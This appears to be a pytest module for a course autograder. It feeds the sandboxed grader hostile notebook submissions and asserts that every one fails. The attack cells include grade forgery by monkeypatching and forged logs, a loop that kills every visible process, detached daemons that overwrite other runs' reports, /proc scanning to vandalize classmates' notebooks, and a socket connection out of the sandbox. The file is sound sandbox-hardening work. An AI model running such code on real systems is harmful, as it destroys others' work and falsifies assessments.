"""Submissions that try to earn marks they did not earn, or to harm classmates and the grader.

One batch of chapter-01 submissions, graded together (``--jobs 2``) with honest ones: each
attack starts from the untouched exercise notebook (0/4 when honest) and adds cells. For each,
the tests assert that it earns no point, that the honest classmates keep their exact scores and
unchanged files, and that no process a submission started is alive afterwards.

The batch runs in the bubblewrap sandbox when it works here (tests/test_grading_sandbox_none.py
repeats the process and judging attacks without it); without bubblewrap this module is skipped
unless REGCOURSE_REQUIRE_BWRAP=1, which turns that into a failure (``.ci/run`` sets it).
"""

from __future__ import annotations

import csv
import hashlib
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell

from _project import ROOT
from regcourse.grading._sandbox import bwrap_works

TOKEN = f"RCATTACK{uuid.uuid4().hex[:12]}"  # in the command line of every process an attack starts
EXERCISE = ROOT / "exercises" / "01_overfitting.ipynb"
SOLUTION = ROOT / "solutions" / "01_overfitting.ipynb"
FULL = 4

needs_bwrap = pytest.mark.skipif(
    bwrap_works() is not None and os.environ.get("REGCOURSE_REQUIRE_BWRAP") != "1",
    reason=f"bubblewrap does not work here ({bwrap_works()})",
)


def notebook_with(cells: list[str], *, base=EXERCISE, chapter="keep"):
    notebook = nbformat.read(base, as_version=4)
    for source in cells:
        notebook.cells.append(new_code_cell(source))
    if chapter != "keep":
        notebook.metadata["regcourse"] = {"chapter": chapter}
    return notebook


def write(folder, name, notebook) -> str:
    path = os.path.join(os.fsencode(folder), name if isinstance(name, bytes) else name.encode())
    with open(path, "wb") as stream:
        stream.write(nbformat.writes(notebook).encode("utf-8"))
    return os.fsdecode(path)


# --- the attacks: cells appended to the untouched exercise ----------------------------------------

CHECK_ALL = (
    'check("overfit.mse", mse)\ncheck("overfit.definition", answer_definition)\n'
    'check("overfit.symptom", answer_symptom)'
)

ATTACKS = {
    # Forged passes.
    "registry_patched": [
        "from regcourse.exercises import _registry\n"
        "for ex in list(_registry.all_exercises()):\n"
        "    _registry._REGISTRY[ex.id] = ex.__class__(ex.id, ex.chapter, ex.title, ex.points, ex.kind, lambda a: "
        "None)",
        "mse = lambda y, y_hat: 0.0\nanswer_definition = answer_symptom = 'a'\n" + CHECK_ALL,
    ],
    "run_check_patched": [
        "import regcourse.exercises._runner as runner\nfrom regcourse.exercises._result import Result\n"
        "runner.run_check = lambda i, a=...: Result(i, 't', 'passed', 9, 9)",
        "mse = lambda y, y_hat: 0.0\nanswer_definition = answer_symptom = 'a'\n" + CHECK_ALL,
    ],
    "check_log_forged": [
        "import json, os\n"
        "lines = [json.dumps({'id': i, 'status': 'passed', 'points': 9}) for i in "
        "('overfit.mse', 'overfit.definition', 'overfit.symptom')]\n"
        "for path in ('checks.jsonl', os.environ.get('REGCOURSE_CHECK_LOG') or 'checks.jsonl'):\n"
        "    with open(path, 'a') as log:\n"
        "        log.write('\\n'.join(lines) + '\\n')",
    ],
    "allclose_patched": [
        "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda *a, **k: True\n"
        "mse = lambda y, y_hat: 0.0\n" + CHECK_ALL,
    ],
    "stack_walk": [
        "import inspect\n"
        "def mse(y, y_hat):\n"
        "    for info in inspect.stack():\n"
        "        if 'reference' in info.frame.f_locals:\n"
        "            return info.frame.f_locals['reference'](y, y_hat)\n"
        "    return 0.0\n" + CHECK_ALL,
    ],
    "equal_to_everything": [
        "class Everything(str):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
        "    def strip(self, *a): return self\n    def lower(self): return self\n"
        "answer_definition = Everything('z')\nanswer_symptom = Everything('z')\n"
        "class Zero(float):\n    def __eq__(self, other): return True\n"
        "mse = lambda y, y_hat: Zero(0.0)",
    ],
    "graded_as_chapter_0": [  # metadata says chapter 0, whose one exercise it answers
        "double = lambda w: 2 * w\ncheck('welcome.double', double)",
    ],
    "chapter_true": [],  # metadata "chapter": true
    # Harm to classmates and to the grader.
    "other_graders_folders": [
        "import glob, json, os, tempfile\n"
        "forged = json.dumps({'results': [{'id': i, 'status': 'passed'} for i in "
        "('overfit.mse', 'overfit.definition', 'overfit.symptom')], 'errors': []})\n"
        "roots = @ROOTS@\n"
        "for root in roots:\n"
        "    for path in glob.glob(os.path.join(root, 'regcourse-*', '**'), recursive=True):\n"
        "        try:\n"
        "            if path.endswith('.json'):\n"
        "                open(path, 'w').write(forged)\n"
        "            elif os.path.isdir(path):\n"
        "                open(os.path.join(path, 'checks.jsonl'), 'a').write(forged)\n"
        "        except OSError:\n"
        "            pass",
    ],
    "detached_daemon": [
        "import os, sys, subprocess\n"
        "code = '''import glob, os, time  # @TOKEN@\n"
        "end = time.time() + 120\n"
        "while time.time() < end:\n"
        "    for path in [p for root in @ROOTS@ for p in glob.glob(root + '/**/report.json', recursive=True)]:\n"
        '        try: open(path, \'w\').write(\'{"results": [], "kernel_died": "failed"}\')\n'
        "        except OSError: pass\n"
        "    time.sleep(0.05)\n'''\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable, [sys.executable, '-c', code])\n"
        "    os._exit(0)\n"
        "os.wait()",
    ],
    "new_session_child": [
        "import subprocess, sys\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time  # @TOKEN@\\ntime.sleep(300)'], "
        "start_new_session=True)",
    ],
    "detached_memory": [
        "import os, sys, subprocess, time\n"
        "code = 'import time  # @TOKEN@\\nblock = bytearray(600 * 2**20)\\nfor i in range(0, len(block), 4096): "
        "block[i] = 1\\ntime.sleep(300)'\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable, [sys.executable, '-c', code])\n"
        "    os._exit(0)\n"
        "os.wait()\ntime.sleep(30)",
    ],
    "process_table": [  # find the grader's command line, then the classmates' files
        "import os, glob\n"
        "seen = []\n"
        "for cmdline in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n"
        "        args = open(cmdline, 'rb').read().decode(errors='replace').split('\\0')\n"
        "        seen += [a for a in args if a.endswith('.ipynb')]\n"
        "    except OSError:\n"
        "        pass\n"
        "seen += glob.glob('@FOLDER@/*.ipynb')\n"
        "for path in seen:\n"
        "    try:\n"
        "        if 'honest_partial' in path:\n"
        "            open(path, 'w').write('')\n"
        "        elif 'untouched' in path:\n"
        "            open(path, 'w').write(open('@SOLUTION@').read())\n"
        "    except OSError:\n"
        "        pass",
    ],
    "kills_what_it_sees": [
        "import os, signal\n"
        "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    if pid not in (os.getpid(),):\n"
        "        try: os.kill(pid, signal.SIGKILL)\n"
        "        except OSError: pass",
    ],
    "network": [
        "import socket\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', @PORT@), timeout=3).sendall(b'@TOKEN@')\n"
        "except OSError:\n"
        "    pass",
    ],
    "writes_outside": [
        "for path in ('@OUTSIDE@', '@FEEDBACK@/honest_solution.txt'):\n"
        "    try:\n"
        "        open(path, 'w').write('@TOKEN@')\n"
        "    except OSError:\n"
        "        pass",
    ],
    "surrogates_and_controls": [
        "def mse(y, y_hat):\n    raise ValueError('bad \\udce9 byte \\x1b[31m red \\u202e reversed')\n"
        "answer_definition = 'b\\udce9'\n" + CHECK_ALL,
    ],
}


class Listener:
    """A TCP server on localhost that records whatever connects to it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received, self.stop = [], False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(100))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.server.close()


def leftovers(marker: str) -> list[str]:
    found = []
    for process in psutil.process_iter(["cmdline", "status"]):
        try:
            if process.info["status"] == psutil.STATUS_ZOMBIE:
                continue
            if any(marker in part for part in process.info["cmdline"] or []):
                found.append(" ".join(process.info["cmdline"])[:200])
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            pass
    return found


def sha(path) -> str:
    return hashlib.sha256(open(path, "rb").read()).hexdigest()


# Without a sandbox these would really harm the machine (kill every process it can see, vandalize
# other sessions' temporary files) or are known to succeed (network, reading the process table):
# see the README's "without bubblewrap".
SANDBOX_ONLY = {"other_graders_folders", "process_table", "kills_what_it_sees", "network", "writes_outside"}


def build_batch(tmp_path, attacks, listener_port, *, sandboxed=True):
    folder = tmp_path / "submissions"
    folder.mkdir()
    grader_tmp = Path(tempfile.mkdtemp(prefix="rcg-test-", dir="/tmp"))  # short: see runs_root()
    feedback = tmp_path / "feedback"
    feedback.mkdir()
    outside = tmp_path / "outside.txt"
    roots = ["/tmp", "/var/tmp", "/dev/shm", str(grader_tmp)] if sandboxed else [str(grader_tmp)]
    substitutions = {
        "@ROOTS@": repr(roots),
        "@TOKEN@": TOKEN,
        "@TMP@": str(grader_tmp),
        "@FOLDER@": str(folder),
        "@SOLUTION@": str(SOLUTION),
        "@PORT@": str(listener_port),
        "@OUTSIDE@": str(outside),
        "@FEEDBACK@": str(feedback),
    }
    paths = {}
    honest = nbformat.read(SOLUTION, as_version=4)
    paths["honest_solution"] = write(folder, "honest_solution.ipynb", honest)
    partial = nbformat.read(SOLUTION, as_version=4)
    partial.cells.append(new_code_cell("answer_definition = 'a'"))  # mse and symptom right: 3/4
    paths["honest_partial"] = write(folder, "honest_partial.ipynb", partial)
    paths["untouched"] = write(folder, "untouched.ipynb", nbformat.read(EXERCISE, as_version=4))
    paths["non_utf8_name"] = write(folder, b"caf\xe9-\xff.ipynb", honest)
    for name in attacks:
        cells = []
        for cell in ATTACKS[name]:
            for key, value in substitutions.items():
                cell = cell.replace(key, value)
            cells.append(cell)
        chapter = {"graded_as_chapter_0": 0, "chapter_true": True}.get(name, "keep")
        paths[name] = write(folder, f"{name}.ipynb", notebook_with(cells, chapter=chapter))
    # A symbolic link planted at a classmate's feedback name, pointing outside the feedback folder.
    (feedback / "untouched.txt").symlink_to(outside)
    outside.write_text("the instructor's file\n")
    return folder, grader_tmp, feedback, outside, paths


def grade(paths, out, feedback, grader_tmp, *extra):
    env = dict(os.environ, TMPDIR=str(grader_tmp))
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "regcourse",
            "grade",
            *paths.values(),
            "--out",
            str(out),
            "--feedback",
            str(feedback),
            "--chapter",
            "1",
            "--timeout",
            "90",
            "--memory-mb",
            "400",
            "--quiet",
            *extra,
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
    )


def read_rows(out):
    with open(out, newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


EXPECTED_HONEST = {"honest_solution": FULL, "honest_partial": 3, "untouched": 0, "non_utf8_name": FULL}


def check_batch(tmp_path, attacks, *extra):
    listener = Listener()
    try:
        folder, grader_tmp, feedback, outside, paths = build_batch(
            tmp_path, attacks, listener.port, sandboxed="none" not in extra
        )
        before = {name: sha(path) for name, path in paths.items()}
        out = tmp_path / "gradebook.csv"
        result = grade(paths, out, feedback, grader_tmp, *extra)
        time.sleep(1.0)
        left = leftovers(TOKEN) + leftovers(str(grader_tmp))
    finally:
        listener.close()
    assert result.returncode == 0, result.stderr.decode(errors="replace")
    rows = read_rows(out)
    assert len(rows) == len(paths)
    by_name = {}
    for name, row in zip(paths, rows):
        by_name[name] = row
    return {
        "rows": by_name,
        "paths": paths,
        "before": before,
        "feedback": feedback,
        "outside": outside,
        "left": left,
        "received": listener.received,
        "grader_tmp": grader_tmp,
        "stderr": result.stderr,
    }


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if bwrap_works() is not None:
        pytest.fail(f"REGCOURSE_REQUIRE_BWRAP=1 but {bwrap_works()}")
    return check_batch(tmp_path_factory.mktemp("attacks"), list(ATTACKS), "--sandbox", "bwrap", "--jobs", "2")


pytestmark = needs_bwrap


def test_honest_submissions_keep_their_exact_scores(batch):
    for name, score in EXPECTED_HONEST.items():
        row = batch["rows"][name]
        assert (row["status"], int(row["score"]), int(row["max_score"])) == ("ok", score, FULL), (name, row)


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_no_attack_earns_a_point(batch, attack):
    row = batch["rows"][attack]
    assert int(row["score"]) == 0 and int(row["max_score"]) == FULL and row["chapter"] == "1", (attack, row)
    for exercise in ("overfit.mse", "overfit.definition", "overfit.symptom"):
        assert row[exercise] == "0", (attack, exercise, row)


def test_every_original_is_unchanged_and_its_sha256_recorded(batch):
    for name, path in batch["paths"].items():
        assert sha(path) == batch["before"][name], name
        assert batch["rows"][name]["sha256"] == batch["before"][name], name
        assert "changed" not in batch["rows"][name]["reason"], name


def test_no_process_a_submission_started_is_left(batch):
    assert batch["left"] == []


def test_the_memory_limit_counts_detached_processes(batch):
    row = batch["rows"]["detached_memory"]
    assert row["status"] == "error" and "memory limit of 400 MB" in row["reason"], row


def test_no_connection_left_the_sandbox(batch):
    assert batch["received"] == []


def test_nothing_was_written_outside_the_submission(batch):
    assert batch["outside"].read_text() == "the instructor's file\n"
    assert TOKEN not in (batch["feedback"] / "honest_solution.txt").read_text(encoding="utf-8")


def test_the_chapter_given_wins_over_metadata_and_a_mismatch_is_noted(batch):
    assert "metadata says chapter 0; graded as chapter 1" in batch["rows"]["graded_as_chapter_0"]["reason"]
    assert "metadata" not in batch["rows"]["chapter_true"]["reason"]  # True is not a chapter number


def test_odd_names_and_text_give_rows_and_readable_feedback(batch):
    assert batch["rows"]["non_utf8_name"]["submission"].endswith("caf\\xe9-\\xff.ipynb")
    names = sorted(p.name for p in batch["feedback"].iterdir())
    assert "caf_xe9-_xff.txt" in names, names
    text = (batch["feedback"] / "surrogates_and_controls.txt").read_text(encoding="utf-8")
    assert "your code raised ValueError: bad \\udce9 byte \\x1b[31m red \\u202e reversed" in text
    assert "\x1b" not in text and "\u202e" not in text
    for path in batch["feedback"].iterdir():
        path.read_text(encoding="utf-8")  # every file is valid UTF-8


def test_feedback_is_never_written_through_a_symlink(batch):
    planted = batch["feedback"] / "untouched.txt"
    assert not planted.is_symlink() and "Score: 0/4" in planted.read_text(encoding="utf-8")
    assert batch["outside"].read_text() == "the instructor's file\n"


def test_the_run_leaves_no_temporary_folder(batch):
    assert [p.name for p in batch["grader_tmp"].iterdir()] == []
    batch["grader_tmp"].rmdir()
